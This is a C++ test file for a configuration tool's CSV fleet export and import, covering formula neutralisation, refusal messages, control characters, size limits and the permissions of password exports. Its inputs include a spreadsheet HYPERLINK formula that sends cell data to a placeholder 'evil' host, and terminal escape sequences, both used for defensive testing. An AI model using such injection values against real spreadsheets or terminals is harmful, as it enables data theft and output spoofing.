// The fleet's tables: export and its round trip through import, the Excel form, formulas,
// passwords, and the refusals of a table that import cannot take.
#include <filesystem>
#include <map>

#include "fileio/fileio.h"
#include "model/fleet.h"
#include "model/fleet_disk.h"
#include "model/text.h"
#include "model/writer.h"
#include "tests/cli_support.h"
#include "tests/fleet_gen.h"

#ifndef _WIN32
#include <sys/stat.h>
#include <unistd.h>
#endif

using namespace orbex;
using namespace orbex::testing;
namespace fs = std::filesystem;

TEST(Fleet, ExportThenImportGivesTheNormalizedFiles) {
    for (std::uint32_t seed = 1; seed <= 60; ++seed) {
        FleetGen gen(seed);
        TempDir from, to;
        const int count = 1 + gen.upTo(12);
        for (int i = 0; i < count; ++i) spit(from / gen.name(i), gen.file());
        // Either form, RFC 4180 and the semicolons of --excel (every other seed).
        const bool excel = seed % 2 == 0;
        std::vector<std::string> args{"export", from.path().string(), "-o", from / "fleet.csv.txt"};
        if (excel) args.push_back("--excel");
        const Result exported = runCli(args);
        ASSERT_EQ(exported.code, 0) << "seed " << seed << ": " << exported.err;
        EXPECT_EQ(slurp(from / "fleet.csv.txt").starts_with(kBom), excel);
        const Result imported =
            runCli({"import", from / "fleet.csv.txt", "-d", to.path().string()});
        ASSERT_EQ(imported.code, 0) << "seed " << seed << ": " << imported.err;
        std::vector<std::string> names = from.names();
        std::erase(names, "fleet.csv.txt");
        ASSERT_EQ(to.names(), names) << "seed " << seed;
        for (const std::string& n : names)
            EXPECT_EQ(slurp(to / n), normalizeConfig(slurp(from / n), [](Id) {}))
                << "seed " << seed << ", " << n;
    }
}

// The Excel form: the same cells, separated by semicolons after a byte-order mark; a cell
// holding a semicolon or a comma stands in quotes in either form.
TEST(Fleet, ExportForExcel) {
    TempDir dir;
    spit(dir / "a.cfg", "USERN='x;y'\r\nDOMAIN='d,e'\r\nCMD='=1'\r\n");
    spit(dir / "b.cfg", "USERN=''\r\n");
    const Result rfc = runCli({"export", dir.path().string()});
    const Result excel = runCli({"export", dir.path().string(), "--excel"});
    ASSERT_EQ(excel.code, 0) << excel.err;
    EXPECT_EQ(rfc.out, "file,USERN,DOMAIN,CMD\r\na.cfg,\"x;y\",\"d,e\",'=1\r\nb.cfg,'',,\r\n");
    EXPECT_EQ(
        excel.out,
        std::string(kBom) + "file;USERN;DOMAIN;CMD\r\na.cfg;\"x;y\";\"d,e\";'=1\r\nb.cfg;'';;\r\n");
    const Result help = runCli({"--help"});
    EXPECT_NE(help.out.find("export DIR [-o FILE.csv] [--excel]"), std::string::npos);
}

// Each refusal names its reason by a code and what it is about; the tool's words are made
// from them.
TEST(Fleet, RefusalsCarryTheirCodeAndWhatTheyName) {
    TempDir dir;
    spit(dir / "kassa.cfg", "USERN='u'\r\n");
    const auto read = [](const std::string& path, std::string&) {
        return std::optional<std::string>(slurp(path));
    };
    using C = fleet::RefusalCode;
    const auto plan = [&](std::string_view csv) {
        return fleet::planImport(csv, dir.path().string(), read, {});
    };
    const fleet::ImportPlan rows = plan(
        "file,IP,AUTOSTART,RAZR\nn.cfg,10.0.0.300,,\nn.cfg,,,\nx.txt,,,\nkassa.cfg,,,\n"
        "m.cfg,,yes,\nq.cfg,,,huge\n");
    ASSERT_EQ(rows.refusals.size(), 6u);
    const fleet::Refusal& bad = rows.refusals[0];
    EXPECT_EQ(bad.code, C::BadValue);
    EXPECT_EQ(bad.key, "IP");
    EXPECT_EQ(bad.value.fault, ValueFault::FailsCheck);
    EXPECT_EQ(bad.value.detail, "10.0.0.300");
    EXPECT_EQ(fleet::reasonText(bad), "IP: '10.0.0.300' is not an IPv4 address");
    const fleet::Refusal& same = rows.refusals[1];
    EXPECT_EQ(same.code, C::SameTarget);
    EXPECT_EQ(same.subject, "n.cfg");
    EXPECT_EQ(same.number, 2);
    EXPECT_EQ(fleet::reasonText(same), "n.cfg is the target of row 2 too");
    EXPECT_EQ(rows.refusals[2].code, C::NotCfgName);
    EXPECT_EQ(rows.refusals[2].subject, "x.txt");
    EXPECT_EQ(rows.refusals[3].code, C::WouldChange);
    EXPECT_TRUE(rows.refusals[3].needsForce);
    EXPECT_EQ(rows.refusals[4].value.fault, ValueFault::OnOff);
    EXPECT_EQ(fleet::reasonText(rows.refusals[4]), "AUTOSTART takes on or off");
    EXPECT_EQ(rows.refusals[5].value.fault, ValueFault::OneOf);
    EXPECT_TRUE(fleet::reasonText(rows.refusals[5]).starts_with("RAZR takes one of: "));

    const fleet::ImportPlan header = plan("file,IP,IP\n");
    ASSERT_EQ(header.refusals.size(), 1u);
    EXPECT_EQ(header.refusals[0].code, C::SameKey);
    EXPECT_EQ(header.refusals[0].number, 2);
    EXPECT_EQ(plan("file,X\n").refusals[0].value.fault, ValueFault::FromChipset);
    EXPECT_EQ(plan("file,Bogus\n").refusals[0].code, C::NotAKey);
    EXPECT_EQ(plan("IP\n").refusals[0].code, C::NoTargetColumn);
    EXPECT_EQ(plan("file\n\"a.cfg\n").refusals[0].code, C::UnclosedQuote);
    EXPECT_EQ(plan("file\n\"a.cfg\"x\n").refusals[0].code, C::TextAfterQuote);
    EXPECT_EQ(plan("").refusals[0].code, C::NoHeader);
    EXPECT_EQ(plan("mac\nzz\n").refusals[0].code, C::NotMac);
    EXPECT_EQ(plan("name\ndefault\n").refusals[0].code, C::CommonByName);
}

TEST(Fleet, ExportMarksFormulasAsTextAndImportTakesThemBack) {
    TempDir from, to;
    const std::string formula = "=HYPERLINK(\"http://evil/?\"&C2,\"x\")";
    spit(from / "=cmd.cfg", "USERN='" + formula + "'\r\nPASSW='-secret'\r\nDOMAIN=''\r\n");
    spit(from / "'q.cfg", "USERN='@me'\r\nDOMAIN='+d'\r\n");
    const Result r = runCli({"export", from.path().string()});
    ASSERT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out,
              "file,USERN,PASSW,DOMAIN\r\n"
              "''q.cfg,'@me,,'+d\r\n"
              "'=cmd.cfg,\"'=HYPERLINK(\"\"http://evil/?\"\"&C2,\"\"x\"\")\",'-secret,''\r\n");
    spit(from / "fleet.csv.txt", r.out);
    ASSERT_EQ(runCli({"import", from / "fleet.csv.txt", "-d", to.path().string()}).code, 0);
    EXPECT_EQ(to.names(), (std::vector<std::string>{"'q.cfg", "=cmd.cfg"}));
    for (const std::string n : {"'q.cfg", "=cmd.cfg"})
        EXPECT_EQ(slurp(to / n), normalizeConfig(slurp(from / n), [](Id) {})) << n;
    // What an older export holds, with no marks: the same values.
    TempDir old;
    const Result o =
        runCli({"import", "-", "-d", old.path().string()}, "name,USERN,DOMAIN\r\nt,=1+2,''\r\n");
    ASSERT_EQ(o.code, 0) << o.err;
    EXPECT_EQ(slurp(old / "t.cfg"), runCli({"normalize", "-"}, "USERN='=1+2'\nDOMAIN=''\n").out);
    // The mark on a name or a MAC address, as a spreadsheet user types it.
    TempDir typed;
    const std::string t = typed.path().string();
    ASSERT_EQ(runCli({"import", "-", "-d", t}, "name,USERN\n'=x,u\n").code, 0);
    ASSERT_EQ(runCli({"import", "-", "-d", t}, "mac,USERN\n'aa:bb:cc:dd:ee:ff,u\n").code, 0);
    EXPECT_EQ(typed.names(), (std::vector<std::string>{"=x.cfg", "AA^BB^CC^DD^EE^FF.cfg"}));
}

TEST(Fleet, ImportOfACrOnlyCsv) {
    TempDir dir;
    const Result r = runCli({"import", "-", "-d", dir.path().string()}, "USERN,name\ra,t1\rb,t2\r");
    ASSERT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(dir.names(), (std::vector<std::string>{"t1.cfg", "t2.cfg"}));
    EXPECT_EQ(slurp(dir / "t2.cfg"), runCli({"normalize", "-"}, "USERN='b'\n").out);
}

TEST(Fleet, ImportRefusesControlCharactersAndEscapesThemInMessages) {
    TempDir dir;
    const std::string d = dir.path().string();
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"name,USERN\n\"a\nb\",u\n", "row 2, column 1 (name): 'a\\nb' is not a computer name"},
        {"name,USERN\na\x1b[2Jb,u\n",
         "row 2, column 1 (name): 'a\\x1B[2Jb' is not a computer name"},
        {"file,USERN\n\"x\ty.cfg\",u\n",
         "row 2, column 1 (file): 'x\\ty.cfg' is not a file name ending in .cfg"},
        {std::string("name,USERN\nt,a\0b\n", 17),
         "row 2, column 2 (USERN): USERN cannot hold a control character (\\x00)"},
        {"name,DOMAIN\nt,\x1b]0;x\x07\n",
         "row 2, column 2 (DOMAIN): DOMAIN cannot hold a control character (\\x1B)"},
        {"name,\"US\nERN\"\n", "row 1, column 2 (US\\nERN): 'US\\nERN' is not a key"},
        {"mac,USERN\n\"aa:bb\r\n\",u\n",
         "row 2, column 1 (mac): 'aa:bb\\r\\n' is not a MAC address"},
    };
    for (const auto& [csv, message] : cases) {
        const Result r = runCli({"import", "-", "-d", d}, csv);
        EXPECT_EQ(r.code, 2) << csv;
        EXPECT_EQ(r.err, "orbcfg-cli: (stdin): " + message + "; nothing written\n") << csv;
        EXPECT_TRUE(dir.names().empty()) << csv;
    }
    // A TAB inside a value is kept, as reading keeps it.
    ASSERT_EQ(runCli({"import", "-", "-d", d}, "name,USERN\nt,a\tb\n").code, 0);
    EXPECT_EQ(slurp(dir / "t.cfg"), runCli({"normalize", "-"}, "USERN='a\tb'\n").out);
    // set refuses the same, and says so on one line.
    const Result r = runCli({"set", dir / "t.cfg", "USERN=x\x1b[1m", "-i"});
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err, "orbcfg-cli: USERN cannot hold a control character (\\x1B)\n");
    EXPECT_EQ(runCli({"set", dir / "t.cfg", "USE\nRN=x"}).err.substr(0, 37),
              "orbcfg-cli: unknown key 'USE\\nRN'\nTry");
}

TEST(Fleet, ImportKeepsTheFirstRefusalsAndCountsTheRest) {
    TempDir dir;
    const std::string d = dir.path().string();
    // Odd rows refused as they are read, even rows when their files are made (they exist and
    // would change): the first kept are the first by row all the same.
    std::string csv = "name,AUTOSTART\n";
    for (int i = 0; i < 3000; ++i) {
        if (i % 2 == 0) {
            csv += "t" + std::to_string(i) + ",yes\n";
        } else {
            spit(dir / ("t" + std::to_string(i) + ".cfg"), "USERN='u'\r\n");
            csv += "t" + std::to_string(i) + ",on\n";
        }
    }
    const fleet::ImportPlan plan = fleet::planImport(
        csv, d, [](const std::string& p, std::string&) { return std::optional(slurp(p)); }, {});
    ASSERT_EQ(plan.refusals.size(), fleet::kRefusalLimit);
    EXPECT_EQ(plan.moreRefusals, 3000 - fleet::kRefusalLimit);
    for (std::size_t k = 0; k < plan.refusals.size(); ++k) {
        EXPECT_EQ(plan.refusals[k].row, static_cast<int>(k) + 2);
        EXPECT_EQ(plan.refusals[k].needsForce, k % 2 == 1) << k;
    }
    const Result r = runCli({"import", "-", "-d", d}, csv);
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 2, column 2 (AUTOSTART): AUTOSTART takes on or off; "
              "and 2999 more refusal(s); nothing written\n");

    // A header is refused at its first bad column, however many follow.
    std::string header = "name";
    for (int i = 0; i < 100000; ++i) header += ",";
    const fleet::ImportPlan wide = fleet::planImport(header + "\nt,\n", d, nullptr, {});
    ASSERT_EQ(wide.refusals.size(), 1u);
    EXPECT_EQ(wide.moreRefusals, 0u);
    EXPECT_EQ(wide.refusals[0].column, 2);
    EXPECT_EQ(reasonText(wide.refusals[0]), "an empty header");
    // A row of many commas under a good header is no refusal; a cell far past its last column is.
    TempDir empty;
    const std::string commas(100000, ',');
    const fleet::ImportPlan many = fleet::planImport(
        "name,USERN\nt1,u" + commas + "\nt2" + commas + "x\n", empty.path().string(), nullptr, {});
    ASSERT_EQ(many.refusals.size(), 1u);
    EXPECT_EQ(many.refusals[0].row, 3);
    EXPECT_EQ(many.refusals[0].column, 100001);
    EXPECT_EQ(reasonText(many.refusals[0]), "a cell beyond the last column");
}

TEST(Fleet, ImportRefusesACsvLargerThan16MiB) {
    TempDir dir;
    std::string csv = "name,USERN\n";
    csv.resize(fileio::kInputLimit + 1, ',');
    spit(dir / "big.csv", csv);
    Result r = runCli({"import", dir / "big.csv", "-d", dir.path().string()});
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err, "orbcfg-cli: " + dir / "big.csv" +
                         " is larger than 16 MiB: too large a CSV to import\n");
    r = runCli({"import", "-", "-d", dir.path().string()}, csv);
    EXPECT_EQ(r.err, "orbcfg-cli: (stdin) is larger than 16 MiB: too large a CSV to import\n");
    EXPECT_EQ(dir.names(), std::vector<std::string>{"big.csv"});
}

#ifndef _WIN32
TEST(Fleet, ExportOfPasswordsIsPrivateAndSaysSo) {
    const struct Umask {
        mode_t old = ::umask(022);
        ~Umask() { ::umask(old); }
    } umask;
    TempDir dir, out;
    const std::string d = dir.path().string();
    const auto modeOf = [](const std::string& path) {
        struct stat st;
        return ::stat(path.c_str(), &st) == 0 ? st.st_mode & 0777 : 0u;
    };
    spit(dir / "a.cfg", "USERN='a'\r\nPASSW='p1'\r\n");
    spit(dir / "b.cfg", "USERN='b'\r\nVNCPASSWD='p2'\r\nWKEY='k'\r\nPASSW=''\r\n");
    Result r = runCli({"export", d, "-o", out / "all.csv"});
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.err, "orbcfg-cli: '" + out / "all.csv" +
                         "' holds 3 password cell(s) (PASSW, VNCPASSWD, WKEY)\n");
    EXPECT_EQ(modeOf(out / "all.csv"), 0600u);
    r = runCli({"export", d});
    EXPECT_EQ(r.err,
              "orbcfg-cli: standard output holds 3 password cell(s) (PASSW, VNCPASSWD, "
              "WKEY)\n");
    // An existing file keeps its mode, as every replaced file does.
    spit(out / "kept.csv", "");
    ::chmod((out / "kept.csv").c_str(), 0644);
    ASSERT_EQ(runCli({"export", d, "-o", out / "kept.csv"}).code, 0);
    EXPECT_EQ(modeOf(out / "kept.csv"), 0644u);

    // Without passwords: the narrowest mode of the files, and nothing said.
    TempDir plain;
    spit(plain / "a.cfg", "USERN='a'\r\n");
    spit(plain / "b.cfg", "USERN='b'\r\n");
    ::chmod((plain / "a.cfg").c_str(), 0640);
    ::chmod((plain / "b.cfg").c_str(), 0604);
    r = runCli({"export", plain.path().string(), "-o", out / "plain.csv"});
    EXPECT_EQ(r.err, "");
    EXPECT_EQ(modeOf(out / "plain.csv"), 0600u);
    ::chmod((plain / "b.cfg").c_str(), 0644);
    ASSERT_EQ(runCli({"export", plain.path().string(), "-o", out / "group.csv"}).code, 0);
    EXPECT_EQ(modeOf(out / "group.csv"), 0640u);
}
#endif
